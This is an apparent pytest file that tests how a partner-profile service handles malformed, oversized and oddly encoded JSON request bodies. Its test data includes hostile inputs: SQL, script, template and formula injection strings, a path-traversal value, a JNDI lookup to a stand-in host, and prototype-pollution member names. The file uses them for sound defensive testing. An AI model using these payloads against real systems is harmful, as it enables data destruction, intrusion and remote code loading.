"""Rows J01 to J49 of the catalogue of bad inputs: bodies and their encodings, in process."""

from __future__ import annotations

import asyncio
from collections.abc import Iterator
from functools import cache

import pytest

from partnercenter.service import seed
from partnercenter.service.app import make_service
from partnercenter.service.asgi import Service
from partnercenter.service.behaviour import Behaviour, Doubtful
from partnercenter.service.storage.sqlite import SqliteStorage
from partnercenter.wire import json_text
from partnercenter.wire.json_text import JsonObject, JsonValue
from tests.catalogue import json_bodies
from tests.catalogue.refused import CANARY, refuse
from tests.service.stage import BASE_URL, DAY, NOW, Answer, Desk, ask, keys, page_body, token

UNREADABLE, INVALID = 800002, 3000
LIMIT = 64 * 1024
STRICT = Behaviour(unwritable_members=Doubtful.REFUSE)


@pytest.fixture(scope="module")
def desk(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Desk]:
    """One database for all rows: a refused body leaves it as it was, which every row checks."""
    path = tmp_path_factory.mktemp("bodies") / "partnercenter.sqlite3"
    storage = SqliteStorage(path)
    try:
        asyncio.run(storage.transact(seed.add_missing_profiles, seed.AddMissingProfiles()))
        yield Desk(storage, path)
    finally:
        storage.close()


@pytest.fixture(scope="module")
def service(desk: Desk) -> Service:
    return make_service(BASE_URL, desk.storage, keys(), DAY, clock=lambda: NOW)


@pytest.fixture(scope="module")
def strict_service(desk: Desk) -> Service:
    return make_service(BASE_URL, desk.storage, keys(), DAY, behaviour=STRICT, clock=lambda: NOW)


@cache
def bearer() -> str:
    """One token for all rows: signing one takes as long as a PUT."""
    return token()


def put(service: Service, body: bytes | JsonObject) -> Answer:
    return ask(service, "PUT", body=body, bearer=bearer())


def refuse_body(service: Service, desk: Desk, body: bytes | JsonObject, code: int) -> Answer:
    return refuse(desk, lambda: put(service, body), 400, code)


def good_body(**changes: JsonValue) -> bytes:
    """The published body without its tag, and a text in it that must not come back in a refusal."""
    return json_text.write(page_body(PurchaseOrderNumber=CANARY, **changes))


def with_member(value: bytes, name: bytes = b"Unknown") -> bytes:
    """The good body with one more member."""
    return good_body()[:-1] + b',"' + name + b'":' + value + b"}"


def with_text(text: bytes) -> bytes:
    """The good body with these bytes inside of its company name."""
    return good_body().replace(b"TEST_TEST_BugBash1", text)


def nested(depth: int, opening: str = "[", closing: str = "]") -> bytes:
    return (opening * depth + closing * depth).encode()


# Not one JSON object

NO_DOCUMENT = {
    "J01-empty": b"",
    "J02-blanks": b" \t\r\n",
    "J04-trailing-text": good_body() + b"x",
    "J05-two-documents": good_body() + b" " + good_body(),
    "J06-line-comment": b"// no\n" + good_body(),
    "J06-block-comment": b"/* no */" + good_body(),
    "J07-trailing-comma": good_body()[:-1] + b",}",
    "J08-single-quotes": good_body().replace(b'"', b"'"),
    "J09-bare-names": good_body().replace(b'"TaxId"', b"TaxId"),
    **{
        f"{row}-{value}-as-{name}": good_body()[:-1] + f',"{name}":{value}}}'.encode()
        for row, value in (("J10", "NaN"), ("J11", "Infinity"), ("J12", "-Infinity"))
        for name in ("BillingDay", "Unknown")
    },
    "J13-too-large": with_member(b"1e999"),
    "J13-too-large-as-a-day": with_member(b"1e999", b"BillingDay"),
    "J14-integer-of-4301-digits": with_member(b"9" * 4301),
    "J14-integer-of-4301-digits-as-a-day": with_member(b"9" * 4301, b"BillingDay"),
    "J15-leading-zero": with_member(b"01"),
    "J15-leading-zero-as-a-day": with_member(b"01", b"BillingDay"),
    "J20-twice": with_member(b'"12-345678"', b"TaxId"),
    "J20-twice-nested": good_body().replace(b'"City":', b'"City":"Elsewhere","City":'),
    "J22-twice-by-escape": with_member(b'"x"', b"\\u0043ompanyName"),
    "J24-lone-high": with_text(b"\\ud83d"),
    "J24-lone-high-before-a-letter": with_text(b"\\ud83dx"),
    "J25-lone-low": with_text(b"\\ude00"),
    "J26-reversed": with_text(b"\\ude00\\ud83d"),
    "J26-reversed-in-a-name": with_member(b"1", b"\\ude00\\ud83d"),
    "J28-nul-in-a-value": with_text(b"x\\u0000y"),
    "J28-nul-in-a-name": with_member(b"1", b"x\\u0000y"),
    **{f"J30-raw-{number:02x}": with_text(b"x%cy" % number) for number in range(0x20)},
    "J31-byte-order-mark": b"\xef\xbb\xbf" + good_body(),
    **{f"J32-{name}": good_body().decode().encode(name) for name in ("utf-16", "utf-16-le", "utf-16-be")},
    **{f"J33-{name}": good_body().decode().encode(name) for name in ("utf-32", "utf-32-le", "utf-32-be")},
    "J32-utf-16-be-mark": b"\xfe\xff" + good_body().decode().encode("utf-16-be"),
    "J34-byte-ff": with_text(b"\xff"),
    "J34-overlong": with_text(b"\xc0\xaf"),
    "J34-surrogates-in-utf-8": with_text(b"\xed\xa0\xbd\xed\xb8\x80"),
    "J34-cut-sequence": with_text(b"\xe2\x82"),
    "J34-in-a-name": with_member(b"1", b"\xff"),
    # One level is that of the body itself.
    "J35-depth-33": with_member(nested(32)),
    "J35-depth-33-objects": with_member(b'{"a":' * 31 + b"{}" + b"}" * 31),
    "J36-depth-1000": with_member(nested(1_000)),
    "J36-depth-1000-objects": with_member(b'{"a":' * 1_000 + b"1" + b"}" * 1_000),
    "J36-depth-1000-mixed": with_member(b'[{"a":' * 500 + b"1" + b"}]" * 500),
    "J37-depth-of-the-limit": with_member(nested(32_000)),
    "J37-depth-of-the-limit-unclosed": b"[" * LIMIT,
    "J37-depth-of-the-limit-objects-unclosed": b'{"a":' * 13_000,
    "J38-array": b"[" + good_body() + b"]",
    "J38-string": b'"' + CANARY.encode() + b'"',
    "J38-number": b"1",
    "J38-true": b"true",
    "J38-null": b"null",
}


@pytest.mark.parametrize("body", NO_DOCUMENT.values(), ids=NO_DOCUMENT.keys())
def test_a_body_that_is_not_one_json_object_is_refused(service: Service, desk: Desk, body: bytes) -> None:
    refuse_body(service, desk, body, UNREADABLE)


SMALL = json_text.write({"companyName": "é", "billingDay": 1, "x": [True, None, {"y": 1.5}]})


@pytest.mark.parametrize("end", range(len(SMALL)), ids=lambda end: f"J03-{end}")
def test_a_body_truncated_at_any_byte_is_refused(service: Service, desk: Desk, end: int) -> None:
    refuse_body(service, desk, SMALL[:end], UNREADABLE)


def test_j03_the_body_that_is_truncated_is_a_good_one(service: Service) -> None:
    assert put(service, SMALL).status == 200


# Members that are not what they should be: the data names each of them

WRONG_MEMBERS: dict[str, tuple[bytes, str]] = {
    "J16-integer": (good_body(TaxId=1), "taxId"),
    "J16-real": (good_body().replace(b'"12-345678"', b"1.0"), "taxId"),
    "J16-exponent": (good_body().replace(b'"12-345678"', b"1e2"), "taxId"),
    "J16-real-as-a-day": (good_body(BillingDay=1.5), "billingDay"),
    "J16-text-as-a-day": (good_body(BillingDay="1"), "billingDay"),
    "J17-true": (good_body(CompanyName=True), "companyName"),
    "J17-true-as-a-day": (good_body(BillingDay=True), "billingDay"),
    "J18-array": (good_body(Address=[]), "address"),
    "J18-array-of-the-object": (good_body(PrimaryContact=[{"FirstName": "Test"}]), "primaryContact"),
    "J19-object": (good_body(CompanyName={}), "companyName"),
    "J19-object-of-the-text": (good_body(CompanyName={"CompanyName": "x"}), "companyName"),
    "J21-twice-by-casing": (with_member(b'"x"', b"companyName"), "casing"),
    "J21-twice-by-casing-nested": (good_body().replace(b'"City":', b'"city":"x","City":'), "casing"),
    **{f"J29-{code:02x}": (with_text(b"x\\u%04xy" % code), "companyName") for code in range(0x01, 0x20)},
    **{f"J29-{code:02x}": (with_text(f"x{chr(code)}y".encode()), "companyName") for code in range(0x7F, 0xA0)},
    "J29-below-the-surface": (good_body().replace(b"Redmond", b"Red\\u0007mond"), "address.city"),
    **{
        f"J42-{code:04x}": (with_text(f"x{chr(code)}y".encode()), "companyName")
        for code in (*range(0x202A, 0x202F), *range(0x2066, 0x206A))
    },
    "J42-by-escape": (with_text(b"x\\u202ey"), "companyName"),
    "J46-60-KiB": (with_text(b"a" * 60 * 1024), "companyName"),
}


@pytest.mark.parametrize(("body", "named"), WRONG_MEMBERS.values(), ids=WRONG_MEMBERS.keys())
def test_a_member_that_is_not_what_it_should_be_is_refused_by_name(
    service: Service, desk: Desk, body: bytes, named: str
) -> None:
    data = refuse_body(service, desk, body, INVALID).json()["data"]
    assert isinstance(data, list)
    assert len(data) == 1
    assert named in str(data[0])


# Members that nobody knows: ignored, or refused where the service is strict (answer D07)

MANY = b",".join(b'"%x":1' % number for number in range(0x400, 0x400 + 6_000))
UNKNOWN = {
    "J23-kelvin-sign": with_member(b'{"Self":{"Uri":"https://x.example"}}', b"Lin\\u212as"),
    "J23-kelvin-sign-in-utf-8": with_member(b'"x"', "Lin\u212as".encode()),
    "J23-full-width": with_member(b'"98-765432"', b"Ta\\uff58Id"),
    "J23-dotless": with_member(b'"98-765432"', "Tax\u0131d".encode()),
    "J40-6000-members": b'{"CompanyName":"x",' + MANY + b"}",
    "J40-one-name-of-60-KB": with_member(b"1", b"a" * 60_000),
    "J41-proto": with_member(b'{"CompanyName":"x"}', b"__proto__"),
    "J41-constructor": with_member(b'{"prototype":{"CompanyName":"x"}}', b"constructor"),
    "J41-class": with_member(b'"x"', b"__class__"),
    "J41-init": with_member(b'"x"', b"__init__"),
    "J41-seen": with_member(b'["x"]', b"_seen"),
    "J41-method": with_member(b'"x"', b"toWire"),
    "J41-ref": with_member(b'"#/CompanyName"', b"$ref"),
    "J41-odata": with_member(b'"#x"', b"@odata.type"),
}


@pytest.mark.parametrize("body", UNKNOWN.values(), ids=UNKNOWN.keys())
def test_a_member_that_nobody_knows_changes_nothing(service: Service, desk: Desk, body: bytes) -> None:
    known: JsonObject = {"CompanyName": "x"} if MANY in body else page_body(PurchaseOrderNumber=CANARY)
    assert put(service, json_text.write(known)).status == 200
    before = desk.stored().document
    assert put(service, body).status == 200
    assert desk.stored().document == before


@pytest.mark.parametrize("body", UNKNOWN.values(), ids=UNKNOWN.keys())
def test_a_strict_service_refuses_a_member_that_nobody_knows(strict_service: Service, desk: Desk, body: bytes) -> None:
    refuse_body(strict_service, desk, body, INVALID)


# Texts that are kept as they were sent

KEPT = {
    "J27-emoji": "a\U0001f600b",
    "J27-emoji-by-escape": "\U0001f600",
    "J43-composed": "Caf\u00e9",
    "J43-decomposed": "Cafe\u0301",
    "J44-fffe": "x\ufffe",
    "J44-ffff": "x\uffff",
    "J44-10ffff": "x\U0010ffff",
    "J45-empty": "",
    "J47-sql": "'); DROP TABLE profile; --",
    "J47-html": "<script>alert(1)</script>",
    "J47-entities": "&lt;b&gt; &amp; &#x27;",
    "J47-template": "{{7*7}} ${7*7} {0} %s %(a)s",
    "J47-formula": '=cmd()|"/c calc"!A1',
    "J47-base64": "PHNjcmlwdD4=",
    "J47-path": "../../etc/passwd",
    "J47-lookup": "${jndi:ldap://x.example/a}",
}


@pytest.mark.parametrize("text", KEPT.values(), ids=KEPT.keys())
def test_a_text_is_stored_and_answered_as_it_was_sent(service: Service, desk: Desk, text: str) -> None:
    sent = page_body(PurchaseOrderNumber=text)
    answer = put(service, sent)
    wanted = json_text.write(text)
    assert (answer.status, b'"PurchaseOrderNumber":' + wanted in answer.body) == (200, True)
    assert b'"purchaseOrderNumber":' + wanted in ask(service, "GET", bearer=bearer()).body
    assert desk.stored().document["purchaseOrderNumber"] == text


def test_j27_an_escaped_pair_and_the_character_itself_are_one_text(service: Service, desk: Desk) -> None:
    assert put(service, with_text(b"\\ud83d\\ude00")).status == 200
    assert desk.stored().document["companyName"] == "\U0001f600"


def test_j43_the_two_forms_of_one_name_stay_two_values(service: Service) -> None:
    answers = {put(service, page_body(CompanyName=name)).json()["CompanyName"] for name in ("Caf\u00e9", "Cafe\u0301")}
    assert len(answers) == 2


def test_j45_null_and_the_empty_text_are_kept_apart(service: Service) -> None:
    address = put(service, page_body()).json()["Address"]
    assert isinstance(address, dict)
    assert (address["Region"], address["AddressLine2"]) == (None, "")
    read = ask(service, "GET", bearer=bearer()).json()["address"]
    assert isinstance(read, dict)
    assert ("region" in read, read["addressLine2"]) == (False, "")


# Size

DECLARED, CHUNKED = ("Content-Length", str(LIMIT + 1)), ("Transfer-Encoding", "chunked")
TOO_LARGE = {
    "J39-declared": (DECLARED, [b" " * (LIMIT + 1)], 0),
    "J39-chunked": (CHUNKED, [b" " * LIMIT, b"x", b"never asked for"], 2),
    "J39-chunked-in-one": (CHUNKED, [b" " * (LIMIT + 1), b"never asked for"], 1),
    "J40-10000-members": (("Content-Length", "88891"), [b""], 0),
}


@pytest.mark.parametrize(("line", "chunks", "asked"), TOO_LARGE.values(), ids=TOO_LARGE.keys())
def test_a_body_above_the_limit_is_refused_before_more_than_the_limit_is_read(
    service: Service, desk: Desk, line: tuple[str, str], chunks: list[bytes], asked: int
) -> None:
    waiting = [line, ("Expect", "100-continue")]  # so that nothing is drained after the answer
    answer = refuse(desk, lambda: ask(service, "PUT", lines=waiting, chunks=chunks, bearer=bearer()), 413, UNREADABLE)
    assert answer.asked_for_body == asked
    assert answer.headers.get("Connection") == "close"


@pytest.mark.parametrize("size", [LIMIT, LIMIT - 1], ids=["J48-limit", "J48-limit-less-one"])
@pytest.mark.parametrize("chunked", [False, True], ids=["J48-declared", "J48-chunked"])
def test_a_body_of_the_limit_is_taken(service: Service, size: int, chunked: bool) -> None:
    body = good_body().ljust(size)
    assert len(body) == size
    lines, chunks = ([CHUNKED], [body[:100], body[100:]]) if chunked else ([], None)
    answer = ask(service, "PUT", lines=lines, body=b"" if chunked else body, chunks=chunks, bearer=bearer())
    assert answer.status == 200


# The whole grammar

NO_OBJECT = "The body must be a JSON object."
BY_ITSELF = {f"J49-n-{name}": text for name, text in (json_bodies.REFUSED | json_bodies.REFUSED_DOCUMENTS).items()}
INSIDE = {f"J49-n-inside-{name}": with_member(text) for name, text in json_bodies.REFUSED.items()}
GOOD = {f"J49-y-{name}": with_member(text) for name, text in json_bodies.ACCEPTED.items()}
FREE = {f"J49-i-{name}": (with_member(text), status) for name, (text, status) in json_bodies.FREE.items()}


@pytest.mark.parametrize("body", (BY_ITSELF | INSIDE).values(), ids=(BY_ITSELF | INSIDE).keys())
def test_a_text_that_is_no_json_is_refused_for_that(service: Service, desk: Desk, body: bytes) -> None:
    sent = [body] if len(body) > len("-Infinity") else []
    answer = refuse(desk, lambda: put(service, body), 400, UNREADABLE, sent)
    assert answer.json()["data"] != [NO_OBJECT]


@pytest.mark.parametrize("body", GOOD.values(), ids=GOOD.keys())
def test_a_value_that_is_json_is_read_wherever_it_stands(service: Service, body: bytes) -> None:
    assert put(service, body).status == 200


@pytest.mark.parametrize(("body", "status"), FREE.values(), ids=FREE.keys())
def test_a_value_that_json_leaves_free_has_one_answer(service: Service, desk: Desk, body: bytes, status: int) -> None:
    if status == 200:
        assert put(service, body).status == 200
    else:
        refuse_body(service, desk, body, UNREADABLE)


def test_j49_the_tables_are_as_large_as_the_grammar_asks() -> None:
    assert len({*json_bodies.REFUSED.values(), *json_bodies.REFUSED_DOCUMENTS.values()}) >= 188
    assert len(set(json_bodies.ACCEPTED.values())) >= 95
    assert len(set(json_bodies.FREE.values())) >= 35
